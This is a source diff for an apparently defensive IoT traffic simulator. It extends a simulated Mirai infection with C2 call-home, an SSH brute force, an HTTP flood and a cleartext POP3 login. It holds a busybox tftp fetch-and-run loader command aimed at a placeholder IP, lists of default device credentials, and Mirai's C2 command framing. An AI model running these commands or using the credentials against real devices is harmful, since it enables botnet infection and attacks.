@@ -1,8 +1,10 @@
 /* SPDX-License-Identifier: GPL-3.0-or-later */
-/* Attack scenarios: a Mirai infection (scan, brute force, loader, C2, floods) and cleartext logins. */
+/* Attack scenarios: a Mirai infection (scan, telnet and SSH brute force, loader, C2, the victim
+ * calling home, floods) and cleartext logins. */
 #include "iotsec-common.h"
 
 #include <jansson.h>
+#include <time.h>
 
 #include "sim.h"
 
@@ -10,9 +12,19 @@
 #define C2_IP "203.0.113.66"
 #define LOADER_IP "198.51.100.23"
 #define FLOOD_TARGET "203.0.113.200"
+#define FLOOD_DOMAIN "www.example.com" /* the http flood's domain= option, sent as Host */
 #define SCAN_PER_SLICE_US 50000u
 #define FLOOD_SLICE_US 10000u
 #define BRUTE_GIVE_UP 9u /* credentials tried on a device before the bot moves on */
+/* The loader runs the bot as "./dvrHelper <id_tag>.<arch>"; the bot reports that id to its C2. */
+#define BOT_ID "telnet.mips"
+#define SSH_SESSIONS 12u /* sessions of the SSH brute force, one after the other */
+#define SSH_TRIES 2u     /* passwords tried per session */
+#define SSH_CLIENT "SSH-2.0-libssh_0.9.6"
+#define POP3_HOST "pop.mail.example.net"
+#define POP3_IP "192.0.2.110"
+#define POP3_USER "j.doe"
+#define POP3_PASS "Harbor-Lights-1987"
 
 struct cred {
     const char *user, *pass;
@@ -37,20 +49,89 @@ static const struct cred creds[] = {
     {"admin", "pass"},    {"admin", "meinsm"},   {"tech", "tech"},        {"mother", "fucker"},
 };
 
-/* Mirai's attack ids, used in the C2 command that starts each flood. */
+/* What an SSH password guesser tries: the usual server and IoT defaults. */
+static const struct cred ssh_creds[] = {
+    {"root", "root"},     {"admin", "admin"},   {"root", "123456"},   {"root", "password"},
+    {"ubnt", "ubnt"},     {"pi", "raspberry"},  {"root", "admin"},    {"root", "1234"},
+    {"support", "support"}, {"user", "user"},   {"root", "toor"},     {"admin", "password"},
+    {"test", "test"},     {"root", "12345678"}, {"admin", "1234"},    {"root", "default"},
+    {"oracle", "oracle"}, {"root", "qwerty"},   {"guest", "guest"},   {"root", "changeme"},
+    {"admin", "123456"},  {"git", "git"},       {"root", "111111"},   {"ftpuser", "ftpuser"},
+};
+
+/* Mirai's attack ids (attack.h), used in the C2 command that starts each flood. */
 static const struct {
     enum sim_att att;
     uint8_t id;
     const char *name;
-} floods[3] = {
+} floods[SIM_FLOODS] = {
     {SIM_ATT_UDP_FLOOD, 0, "udp"},
     {SIM_ATT_SYN_FLOOD, 3, "syn"},
     {SIM_ATT_GRE_FLOOD, 6, "greip"},
+    {SIM_ATT_HTTP_FLOOD, 10, "http"},
+};
+#define FLOOD_HTTP 3u /* index of the http attack in floods[] */
+
+/* table.c's TABLE_HTTP_ONE .. FIVE: each http flood socket takes one at random. */
+static const char *const mirai_uas[5] = {
+    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/51.0.2704.103 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/52.0.2743.116 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/51.0.2704.103 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/52.0.2743.116 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) "
+    "Version/9.1.2 Safari/601.7.7",
+};
+
+/* KEXINIT name-lists: libssh 0.9.6's client defaults (plus ext-info-c), and the dropbear 2019.78
+ * build of the NVR (CBC, zlib and DSS-only builds off). They negotiate curve25519-sha256,
+ * ecdsa-sha2-nistp256, aes256-ctr and hmac-sha2-256. */
+static const char *const ssh_kex_client[10] = {
+    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,"
+    "ecdh-sha2-nistp521,diffie-hellman-group18-sha512,diffie-hellman-group16-sha512,"
+    "diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,ext-info-c",
+    "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,"
+    "rsa-sha2-256,ssh-rsa",
+    "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,"
+    "aes192-ctr,aes128-ctr",
+    "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,"
+    "aes192-ctr,aes128-ctr",
+    "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,"
+    "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
+    "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,"
+    "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
+    "none",
+    "none",
+    "",
+    "",
+};
+static const char *const ssh_kex_server[10] = {
+    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp521,ecdh-sha2-nistp384,"
+    "ecdh-sha2-nistp256,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,"
+    "kexguess2@matt.ucc.asn.au",
+    "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss",
+    "aes128-ctr,aes256-ctr",
+    "aes128-ctr,aes256-ctr",
+    "hmac-sha1,hmac-sha2-256",
+    "hmac-sha1,hmac-sha2-256",
+    "none",
+    "none",
+    "",
+    "",
 };
 
 static struct sim_dev *bot(struct sim *s)
 {
     return &s->dev[s->mirai.bot];
+}
+
+/* The device the telnet brute force broke into: a LAN device, or the router. */
+static struct sim_dev *victim(struct sim *s)
+{
+    return s->mirai.victim < 0 ? &s->gw : &s->dev[s->mirai.victim];
 }
 
 static uint64_t at_fraction(const struct sim *s, unsigned pct)
@@ -63,6 +144,7 @@ void sim_attacks_init(struct sim *s)
 {
     s->mirai.bot = -1;
     s->mirai.victim = -1;
+    s->mirai.ssh_target = -1;
     s->mirai.success_cred = SIZE_MAX;
     if (s->opt.scenario & SIM_SC_MIRAI) {
         int cam = sim_find_kind(s, "camera", 0);
@@ -73,7 +155,7 @@ void sim_attacks_init(struct sim *s)
         sim_sched(s, at_fraction(s, 20) + sim_range(s, 5 * SIM_US), EV_MIRAI_INFECT, 0, 0);
     }
     if (s->opt.scenario & SIM_SC_CLEAR)
-        for (uint32_t k = 0; k < 4; k++)
+        for (uint32_t k = 0; k < 5; k++)
             sim_sched(s, at_fraction(s, 30 + 5 * k) + sim_range(s, 2 * SIM_US), EV_CLEAR, 0, k);
 }
 
@@ -104,8 +186,14 @@ static void mirai_infect(struct sim *s)
     sim_sched(s, s->now + 60 * SIM_US, EV_MIRAI_C2, 0, 0);
     sim_sched(s, s->now + 2 * SIM_US, EV_MIRAI_SCAN, 0, 0);
     sim_sched(s, s->now + 15 * SIM_US, EV_MIRAI_BRUTE, 0, 0);
-    for (uint32_t k = 0; k < 3; k++)
-        sim_sched(s, at_fraction(s, 45 + 7 * k), EV_MIRAI_FLOOD, 0, k);
+    sim_sched(s, IOT_MAX(at_fraction(s, 33), s->now + 30 * SIM_US), EV_MIRAI_SSH, 0, 0);
+    /* One flood after the other, never before the bot is up nor while the last one runs. */
+    uint64_t at = s->now + 30 * SIM_US;
+    for (uint32_t k = 0; k < SIM_FLOODS; k++) {
+        at = IOT_MAX(at_fraction(s, 45 + 7 * k), at);
+        sim_sched(s, at, EV_MIRAI_FLOOD, 0, k);
+        at += (s->opt.flood_seconds + 1) * SIM_US;
+    }
 }
 
 static void mirai_c2_beat(struct sim *s)
@@ -114,6 +202,45 @@ static void mirai_c2_beat(struct sim *s)
     c2_send(s, false, beat, sizeof(beat));
     c2_send(s, true, beat, sizeof(beat));
     sim_sched(s, s->now + sim_jitter_us(s, 60, 2), EV_MIRAI_C2, 0, 0);
+}
+
+/* The bot the loader started on the victim does what main.c does on a fresh start: resolve the
+ * C2 name through 8.8.8.8, connect to port 23, then send the hello with three send() calls:
+ * "\0\0\0\1" leaves at once, and Nagle holds the id length and the id until that segment is
+ * acknowledged, so they travel together in a second segment (the CNC's initialHandler relies on
+ * this: it reads exactly 4 bytes first). Its first heartbeat follows when select() first times
+ * out (10 s), the next ones every sixth timeout (60 s); the CNC echoes each. */
+static void mirai_callhome(struct sim *s, uint32_t beat)
+{
+    static const uint8_t magic[4] = {0, 0, 0, 1}, hb[2] = {0, 0};
+    struct sim_mirai *m = &s->mirai;
+    struct sim_tcp *c = &m->home;
+    struct sim_dev *v = victim(s);
+    if (beat) {
+        if (!m->home_up)
+            return;
+        c->t = IOT_MAX(c->t, s->now);
+        sim_tcp_send(s, c, false, hb, sizeof(hb));
+        sim_tcp_send(s, c, true, hb, sizeof(hb));
+        sim_sched(s, s->now + sim_jitter_us(s, 60, 2), EV_MIRAI_CALLHOME, 0, 1);
+        return;
+    }
+    uint8_t id[1 + sizeof(BOT_ID)];
+    struct sim_host c2;
+    uint32_t ip = sim_ip_parse(C2_IP);
+    sim_att_source(s, SIM_ATT_C2_CALLHOME, &v->h);
+    sim_att_target(s, SIM_ATT_C2_CALLHOME, ip);
+    uint64_t t = sim_dns_lookup(s, v, s->now, SIM_ATT_C2_CALLHOME, C2_DOMAIN, ip, 0x08080808u);
+    sim_remote(s, ip, &c2);
+    sim_tcp_begin(s, c, &v->h, sim_eph(s, v), &c2, 23, t, SIM_ATT_C2_CALLHOME);
+    c->awin = v->p->win;
+    sim_tcp_open(s, c);
+    sim_tcp_send(s, c, false, magic, sizeof(magic));
+    id[0] = (uint8_t)strlen(BOT_ID);
+    memcpy(id + 1, BOT_ID, strlen(BOT_ID));
+    sim_tcp_send(s, c, false, id, 1 + strlen(BOT_ID));
+    m->home_up = true;
+    sim_sched(s, c->t + 10 * SIM_US, EV_MIRAI_CALLHOME, 0, 1);
 }
 
 /* ---- scanning ---- */
@@ -395,7 +522,7 @@ static void mirai_loader(struct sim *s)
     };
     struct sim_mirai *m = &s->mirai;
     struct sim_tcp *c = &m->sess;
-    const struct sim_dev *v = m->victim < 0 ? &s->gw : &s->dev[m->victim];
+    const struct sim_dev *v = victim(s);
     uint32_t lip = sim_ip_parse(LOADER_IP);
     char cmd[256];
     uint64_t done = 0;
@@ -418,26 +545,127 @@ static void mirai_loader(struct sim *s)
     tn_send(s, c, true, "\r\nConnecting to " LOADER_IP " (" LOADER_IP ":80)\r\n"
                         ".m                   100% |*******************************|  1987   0:00:00 ETA\r\n# ");
     n = snprintf(cmd, sizeof(cmd), "/bin/busybox tftp -g -l dvrHelper -r mirai.mips %s; "
-                                   "/bin/busybox chmod 777 dvrHelper; ./dvrHelper", LOADER_IP);
+                                   "/bin/busybox chmod 777 dvrHelper; ./dvrHelper " BOT_ID,
+                 LOADER_IP);
     if (n < 0 || (size_t)n >= sizeof(cmd))
         return;
     tn_line(s, c, cmd);
     loader_tftp(s, v, lip, c->t + 5000, &done);
     c->t = IOT_MAX(c->t, done);
-    tn_send(s, c, true, "\r\n# ");
+    /* The bot prints TABLE_EXEC_SUCCESS, forks into the background and starts calling home. */
+    tn_send(s, c, true, "\r\nlistening tun0\r\n# ");
+    sim_sched(s, done + 20000 + sim_range(s, 200000), EV_MIRAI_CALLHOME, 0, 0);
     sim_tcp_close(s, c);
+}
+
+/* ---- SSH brute force ---- */
+
+/* One password-guessing session against h's dropbear, as a libssh-based guesser runs it:
+ * identification strings, KEXINIT each way, ECDH, NEWKEYS, then (sealed) the userauth service
+ * and SSH_TRIES password requests, each refused after dropbear's failure delay; then DISCONNECT
+ * and FIN. Returns the session's end. */
+static uint64_t ssh_session(struct sim *s, const struct sim_dev *h)
+{
+    struct sim_mirai *m = &s->mirai;
+    struct sim_dev *b = bot(s);
+    struct sim_tcp c;
+    uint8_t buf[1400];
+    size_t n;
+    sim_tcp_begin(s, &c, &b->h, sim_eph(s, b), &h->h, h->p->ssh_port, s->now, SIM_ATT_SSH_BRUTE);
+    c.awin = b->p->win;
+    sim_tcp_open(s, &c);
+    /* libssh sends its identification as soon as the socket connects; dropbear's forked child
+     * answers with its own, and its KEXINIT right behind it. */
+    n = sim_str(buf, sizeof(buf), SSH_CLIENT "\r\n");
+    sim_tcp_send(s, &c, false, buf, n);
+    sim_tcp_wait(&c, 2000 + sim_range(s, 6000));
+    n = sim_str(buf, sizeof(buf), h->p->ssh_banner);
+    n += sim_str(buf + n, sizeof(buf) - n, "\r\n");
+    sim_tcp_send(s, &c, true, buf, n);
+    n = sim_ssh_kexinit(s, buf, sizeof(buf), ssh_kex_server);
+    sim_tcp_send(s, &c, true, buf, n);
+    n = sim_ssh_kexinit(s, buf, sizeof(buf), ssh_kex_client);
+    sim_tcp_send(s, &c, false, buf, n);
+    n = sim_ssh_ecdh_init(s, buf, sizeof(buf));
+    sim_tcp_send(s, &c, false, buf, n);
+    sim_tcp_wait(&c, 60000 + sim_range(s, 90000)); /* an NVR's CPU signs the exchange hash */
+    n = sim_ssh_ecdh_reply(s, buf, sizeof(buf), m->ssh_hostkey);
+    sim_tcp_send(s, &c, true, buf, n);
+    n = sim_ssh_newkeys(s, buf, sizeof(buf));
+    sim_tcp_send(s, &c, false, buf, n);
+    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + strlen("ssh-userauth")); /* SERVICE_REQUEST */
+    sim_tcp_send(s, &c, false, buf, n);
+    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + strlen("ssh-userauth")); /* SERVICE_ACCEPT */
+    sim_tcp_send(s, &c, true, buf, n);
+    for (uint32_t i = 0; i < SSH_TRIES; i++) {
+        const struct cred *cr = &ssh_creds[m->ssh_attempts++ % IOT_ARRAY_LEN(ssh_creds)];
+        /* USERAUTH_REQUEST: user, "ssh-connection", "password", FALSE, the password. */
+        size_t req = 1 + 4 + strlen(cr->user) + 4 + 14 + 4 + 8 + 1 + 4 + strlen(cr->pass);
+        n = sim_ssh_sealed(s, buf, sizeof(buf), req);
+        sim_tcp_send(s, &c, false, buf, n);
+        sim_tcp_wait(&c, 250000 + sim_range(s, 100000)); /* dropbear delays each refusal */
+        /* USERAUTH_FAILURE: "publickey,password", partial success FALSE. */
+        n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + 18 + 1);
+        sim_tcp_send(s, &c, true, buf, n);
+    }
+    /* DISCONNECT: reason 11 (by application), "Bye Bye", no language tag. */
+    n = sim_ssh_sealed(s, buf, sizeof(buf), 1 + 4 + 4 + 7 + 4);
+    sim_tcp_send(s, &c, false, buf, n);
+    sim_tcp_close(s, &c);
+    return c.t;
+}
+
+/* Bursts of short sessions against the first device with an SSH server on the LAN: the bot's
+ * scanner found it, on whatever port it listens. */
+static void mirai_ssh(struct sim *s)
+{
+    struct sim_mirai *m = &s->mirai;
+    if (m->ssh_sessions == 0 && m->ssh_target < 0) {
+        for (size_t i = 0; i < s->ndev && m->ssh_target < 0; i++)
+            if (s->dev[i].p->ssh_banner && (int)i != m->bot)
+                m->ssh_target = (int)i;
+        if (m->ssh_target < 0)
+            return;
+        sim_fill(s, m->ssh_hostkey, sizeof(m->ssh_hostkey));
+        sim_att_source(s, SIM_ATT_SSH_BRUTE, &bot(s)->h);
+        sim_att_target(s, SIM_ATT_SSH_BRUTE, s->dev[m->ssh_target].h.ip);
+    }
+    if (m->ssh_target < 0 || m->ssh_sessions >= SSH_SESSIONS)
+        return;
+    uint64_t end = ssh_session(s, &s->dev[m->ssh_target]);
+    if (++m->ssh_sessions < SSH_SESSIONS)
+        sim_sched(s, end + 100000 + sim_range(s, 500000), EV_MIRAI_SSH, 0, 0);
 }
 
 /* ---- floods ---- */
 
-static void c2_command(struct sim *s, uint8_t attack_id)
+struct c2_opt {
+    uint8_t key; /* ATK_OPT_* */
+    const char *val;
+};
+
+/* attack_parse's framing, as the CNC's Attack.Build writes it: total length, duration, attack
+ * id, one target (address, prefix length), then the options (key, value length, value). */
+static void c2_command(struct sim *s, uint8_t attack_id, const struct c2_opt *opts, size_t nopts)
 {
     uint32_t dur = (uint32_t)s->opt.flood_seconds, ip = s->mirai.flood_target;
-    uint8_t cmd[] = {0, 14, (uint8_t)(dur >> 24), (uint8_t)(dur >> 16), (uint8_t)(dur >> 8),
-                     (uint8_t)dur, attack_id, 1, (uint8_t)(ip >> 24), (uint8_t)(ip >> 16),
-                     (uint8_t)(ip >> 8), (uint8_t)ip, 32, 0};
+    uint8_t cmd[256] = {0, 0, (uint8_t)(dur >> 24), (uint8_t)(dur >> 16), (uint8_t)(dur >> 8),
+                        (uint8_t)dur, attack_id, 1, (uint8_t)(ip >> 24), (uint8_t)(ip >> 16),
+                        (uint8_t)(ip >> 8), (uint8_t)ip, 32, (uint8_t)nopts};
+    size_t n = 14;
+    for (size_t i = 0; i < nopts; i++) {
+        size_t len = strlen(opts[i].val);
+        if (len > 255 || len + 2 > sizeof(cmd) - n)
+            sim_fatal("C2 command too long");
+        cmd[n++] = opts[i].key;
+        cmd[n++] = (uint8_t)len;
+        memcpy(cmd + n, opts[i].val, len);
+        n += len;
+    }
+    cmd[0] = (uint8_t)(n >> 8);
+    cmd[1] = (uint8_t)n;
     if (s->mirai.c2_up)
-        c2_send(s, true, cmd, sizeof(cmd));
+        c2_send(s, true, cmd, n);
 }
 
 static void flood_udp(struct sim *s, uint64_t t, const struct sim_host *src,
@@ -484,14 +712,112 @@ static void flood_gre(struct sim *s, uint64_t t, const struct sim_host *src,
     sim_ip_raw(s, t, SIM_ATT_GRE_FLOOD, src, dst, 47, p, sizeof(p));
 }
 
+/* One keep-alive round of attack_app_http: the request (the ack of the last response rides on
+ * it), nginx's answer after the round trip, and the bot's select() loop turning round. */
+static void http_round(struct sim *s, struct sim_tcp *c, const char *ua)
+{
+    static const char body[] =
+        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
+        "<title>Example Shop</title>\n<link rel=\"stylesheet\" href=\"/static/site.css\">\n"
+        "</head>\n<body>\n<header><a href=\"/\">Example Shop</a> <a href=\"/cart\">Cart</a>"
+        "</header>\n<main>\n<h1>Spring sale</h1>\n<p>Free shipping on orders over $50.</p>\n"
+        "<ul class=\"products\">\n<li><a href=\"/p/1021\">Trail running shoes</a></li>\n"
+        "<li><a href=\"/p/1187\">Rain jacket</a></li>\n<li><a href=\"/p/1322\">Daypack 20 l"
+        "</a></li>\n</ul>\n</main>\n<footer>&copy; 2023 Example Shop</footer>\n</body>\n"
+        "</html>\n";
+    char req[512], resp[SIM_MSS], date[40];
+    int n = snprintf(req, sizeof(req),
+                     "GET / HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nConnection: keep-alive\r\n"
+                     "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,"
+                     "*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.8\r\n\r\n",
+                     ua, FLOOD_DOMAIN);
+    if (n < 0 || (size_t)n >= sizeof(req))
+        sim_fatal("http flood request");
+    sim_tcp_seg(s, c->t, c->tag, &c->a, c->aport, &c->b, c->bport, c->aseq, c->bseq,
+                SIM_TCP_PSH | SIM_TCP_ACK, c->awin, NULL, 0, (const uint8_t *)req, (size_t)n);
+    c->aseq += (uint32_t)n;
+    uint64_t tr = c->t + c->rtt - 1500 + sim_range(s, 3000); /* the round trip, +-1.5 ms */
+    tr += 300 + sim_range(s, 3000);                            /* nginx serving the page */
+    time_t secs = (time_t)(tr / SIM_US);
+    struct tm tm;
+    if (gmtime_r(&secs, &tm) == NULL ||
+        strftime(date, sizeof(date), "%a, %d %b %Y %H:%M:%S GMT", &tm) == 0)
+        sim_fatal("http date");
+    n = snprintf(resp, sizeof(resp),
+                 "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\nDate: %s\r\n"
+                 "Content-Type: text/html\r\nContent-Length: %zu\r\n"
+                 "Last-Modified: Mon, 06 Nov 2023 09:12:44 GMT\r\nConnection: keep-alive\r\n"
+                 "ETag: \"6548ad5c-%zx\"\r\nAccept-Ranges: bytes\r\n\r\n%s",
+                 date, strlen(body), strlen(body), body);
+    if (n < 0 || (size_t)n >= sizeof(resp))
+        sim_fatal("http flood response");
+    sim_tcp_seg(s, tr, c->tag, &c->b, c->bport, &c->a, c->aport, c->bseq, c->aseq,
+                SIM_TCP_PSH | SIM_TCP_ACK, c->bwin, NULL, 0, (const uint8_t *)resp, (size_t)n);
+    c->bseq += (uint32_t)n;
+    c->t = tr + 80 + sim_range(s, 400);
+    s->mirai.http_requests++;
+}
+
+/* attack_app_http with conns=SIM_HTTP_CONNS: every socket connects, then sends GET / and reads
+ * the whole response before sending the next request on the same connection (the server says
+ * keep-alive). When the duration is over the attack's process is killed and the kernel closes
+ * its sockets. */
+static void mirai_http(struct sim *s)
+{
+    struct sim_mirai *m = &s->mirai;
+    struct sim_dev *b = bot(s);
+    const uint32_t k = FLOOD_HTTP;
+    if (m->flood_end[k] == 0) {
+        char conns[12];
+        struct sim_host dst;
+        if (snprintf(conns, sizeof(conns), "%u", SIM_HTTP_CONNS) >= (int)sizeof(conns))
+            sim_fatal("conns option");
+        const struct c2_opt opts[] = {{8, FLOOD_DOMAIN}, {24, conns}}; /* domain=, conns= */
+        uint64_t t = IOT_MAX(m->c2.t, s->now) + 1000 + sim_range(s, 4000);
+        c2_command(s, floods[k].id, opts, IOT_ARRAY_LEN(opts));
+        m->flood_end[k] = s->now + s->opt.flood_seconds * SIM_US;
+        sim_att_source(s, floods[k].att, &b->h);
+        sim_att_target(s, floods[k].att, m->flood_target);
+        sim_remote(s, m->flood_target, &dst);
+        m->http_rtt = 20000 + sim_range(s, 20000);
+        for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++) {
+            struct sim_tcp *c = &m->http[i];
+            sim_tcp_begin(s, c, &b->h, sim_eph(s, b), &dst, 80, t, SIM_ATT_HTTP_FLOOD);
+            c->awin = b->p->win;
+            c->rtt = m->http_rtt - 2000 + sim_range(s, 4000);
+            m->http_ua[i] = (uint8_t)sim_range(s, IOT_ARRAY_LEN(mirai_uas));
+            sim_tcp_open(s, c);
+            t += 50 + sim_range(s, 150);
+        }
+    }
+    uint64_t upto = s->now + FLOOD_SLICE_US, end = m->flood_end[k];
+    for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++)
+        while (m->http[i].t < upto && m->http[i].t < end)
+            http_round(s, &m->http[i], mirai_uas[m->http_ua[i]]);
+    if (upto < end) {
+        sim_sched(s, upto, EV_MIRAI_FLOOD, 0, k);
+        return;
+    }
+    for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++) {
+        m->http[i].t = IOT_MAX(m->http[i].t, end);
+        sim_tcp_close(s, &m->http[i]);
+    }
+}
+
 static void mirai_flood(struct sim *s, uint32_t k)
 {
     struct sim_mirai *m = &s->mirai;
     struct sim_dev *b = bot(s);
     struct sim_host dst;
+    if (k >= SIM_FLOODS)
+        return;
+    if (k == FLOOD_HTTP) {
+        mirai_http(s);
+        return;
+    }
     enum sim_att att = floods[k].att;
     if (m->flood_end[k] == 0) {
-        c2_command(s, floods[k].id);
+        c2_command(s, floods[k].id, NULL, 0);
         m->flood_end[k] = s->now + s->opt.flood_seconds * SIM_US;
         sim_att_source(s, att, &b->h);
         sim_att_target(s, att, m->flood_target);
@@ -610,12 +936,43 @@ static void clear_mqtt(struct sim *s)
     sim_tcp_close(s, &c);
 }
 
+/* The laptop's mail client fetching mail over plain POP3 (RFC 1939, CAPA from RFC 2449) from
+ * its provider's server, which offers no STLS: the password crosses the internet in clear. */
+static void clear_pop3(struct sim *s, struct sim_dev *cl)
+{
+    static const char *const dialog[][2] = {
+        {NULL, "+OK Dovecot (Debian) ready.\r\n"},
+        {"CAPA\r\n", "+OK\r\nCAPA\r\nTOP\r\nUIDL\r\nRESP-CODES\r\nPIPELINING\r\n"
+                     "AUTH-RESP-CODE\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n"},
+        {"USER " POP3_USER "\r\n", "+OK\r\n"},
+        {"PASS " POP3_PASS "\r\n", "+OK Logged in.\r\n"},
+        {"STAT\r\n", "+OK 3 48213\r\n"},
+        {"QUIT\r\n", "+OK Logging out.\r\n"},
+    };
+    struct sim_host srv;
+    struct sim_tcp c;
+    uint32_t ip = sim_ip_parse(POP3_IP);
+    sim_att_target(s, SIM_ATT_CLEAR_POP3, ip);
+    uint64_t t = sim_dns_lookup(s, cl, s->now, SIM_ATT_CLEAR_POP3, POP3_HOST, ip, SIM_GW_IP);
+    sim_remote(s, ip, &srv);
+    sim_tcp_begin(s, &c, &cl->h, sim_eph(s, cl), &srv, 110, t, SIM_ATT_CLEAR_POP3);
+    c.awin = cl->p->win;
+    sim_tcp_open(s, &c);
+    for (size_t i = 0; i < IOT_ARRAY_LEN(dialog); i++) {
+        if (dialog[i][0])
+            tn_send(s, &c, false, dialog[i][0]);
+        tn_send(s, &c, true, dialog[i][1]);
+    }
+    sim_tcp_close(s, &c);
+}
+
 static void clear_event(struct sim *s, uint32_t k)
 {
-    static const enum sim_att kinds[4] = {SIM_ATT_CLEAR_HTTP, SIM_ATT_CLEAR_FTP,
-                                          SIM_ATT_CLEAR_TELNET, SIM_ATT_CLEAR_MQTT};
+    static const enum sim_att kinds[5] = {SIM_ATT_CLEAR_HTTP, SIM_ATT_CLEAR_FTP,
+                                          SIM_ATT_CLEAR_TELNET, SIM_ATT_CLEAR_MQTT,
+                                          SIM_ATT_CLEAR_POP3};
     struct sim_dev *cl = &s->dev[laptop(s)];
-    if (k >= 4)
+    if (k >= IOT_ARRAY_LEN(kinds))
         return;
     sim_att_source(s, kinds[k], &cl->h);
     if (k == 0)
@@ -624,8 +981,10 @@ static void clear_event(struct sim *s, uint32_t k)
         clear_ftp(s, cl);
     else if (k == 2)
         clear_telnet(s, cl);
-    else
+    else if (k == 3)
         clear_mqtt(s);
+    else
+        clear_pop3(s, cl);
 }
 
 void sim_attack_event(struct sim *s, const struct sim_ev *ev)
@@ -648,6 +1007,12 @@ void sim_attack_event(struct sim *s, const struct sim_ev *ev)
         break;
     case EV_MIRAI_FLOOD:
         mirai_flood(s, ev->arg);
+        break;
+    case EV_MIRAI_CALLHOME:
+        mirai_callhome(s, ev->arg);
+        break;
+    case EV_MIRAI_SSH:
+        mirai_ssh(s);
         break;
     case EV_CLEAR:
         clear_event(s, ev->arg);
@@ -698,11 +1063,39 @@ static void mirai_details(struct sim *s)
     s->att[SIM_ATT_C2].details = json_pack("{s:s,s:s,s:s,s:i,s:i}", "domain", C2_DOMAIN, "ip",
                                            C2_IP, "resolver", "8.8.8.8", "port", 23,
                                            "heartbeat_seconds", 60);
-    for (size_t k = 0; k < 3; k++)
+    s->att[SIM_ATT_C2_CALLHOME].details =
+        json_pack("{s:s,s:s,s:s,s:i,s:s,s:s,s:i,s:i}", "domain", C2_DOMAIN, "ip", C2_IP,
+                  "resolver", "8.8.8.8", "port", 23, "bot_id", BOT_ID, "hello",
+                  "00000001 then id length and id, in two segments", "first_heartbeat_seconds", 10,
+                  "heartbeat_seconds", 60);
+    for (size_t k = 0; k < FLOOD_HTTP; k++)
         s->att[floods[k].att].details =
             json_pack("{s:s,s:s,s:I,s:I}", "mirai_attack", floods[k].name, "target", FLOOD_TARGET,
                       "duration", (json_int_t)s->opt.flood_seconds, "pps",
                       (json_int_t)s->opt.flood_pps);
+    d = json_pack("{s:s,s:i,s:s,s:i,s:s,s:s,s:s,s:i,s:I,s:I,s:I}", "mirai_attack", "http",
+                  "attack_id", (int)floods[FLOOD_HTTP].id, "target", FLOOD_TARGET, "port", 80,
+                  "domain", FLOOD_DOMAIN, "method", "GET", "path", "/", "connections",
+                  (int)SIM_HTTP_CONNS, "duration", (json_int_t)s->opt.flood_seconds, "requests",
+                  (json_int_t)m->http_requests, "rps",
+                  (json_int_t)(m->http_requests / s->opt.flood_seconds));
+    json_t *uas = json_array();
+    for (size_t i = 0; i < SIM_HTTP_CONNS && m->http_requests > 0; i++) {
+        bool seen = false;
+        for (size_t j = 0; j < i; j++)
+            seen = seen || m->http_ua[j] == m->http_ua[i];
+        if (!seen)
+            json_array_append_new(uas, json_string(mirai_uas[m->http_ua[i]]));
+    }
+    json_object_set_new(d, "user_agents", uas);
+    s->att[SIM_ATT_HTTP_FLOOD].details = d;
+    if (m->ssh_target >= 0)
+        s->att[SIM_ATT_SSH_BRUTE].details = json_pack(
+            "{s:i,s:s,s:s,s:i,s:I,s:i,s:b,s:s}", "port", s->dev[m->ssh_target].p->ssh_port,
+            "server_banner", s->dev[m->ssh_target].p->ssh_banner, "client_banner", SSH_CLIENT,
+            "sessions", (int)m->ssh_sessions, "attempts", (json_int_t)m->ssh_attempts,
+            "passwords_per_session", (int)SSH_TRIES, "success", 0, "negotiated",
+            "curve25519-sha256, ecdsa-sha2-nistp256, aes256-ctr, hmac-sha2-256");
 }
 
 void sim_attack_details(struct sim *s)
@@ -727,4 +1120,9 @@ void sim_attack_details(struct sim *s)
     json_object_set_new(d, "port", json_integer(1883));
     json_object_set_new(d, "client_id", json_string("st-hub-provision"));
     s->att[SIM_ATT_CLEAR_MQTT].details = d;
+    d = cred_json(POP3_USER, POP3_PASS);
+    json_object_set_new(d, "port", json_integer(110));
+    json_object_set_new(d, "server", json_string(POP3_HOST));
+    json_object_set_new(d, "mechanism", json_string("USER/PASS"));
+    s->att[SIM_ATT_CLEAR_POP3].details = d;
 }
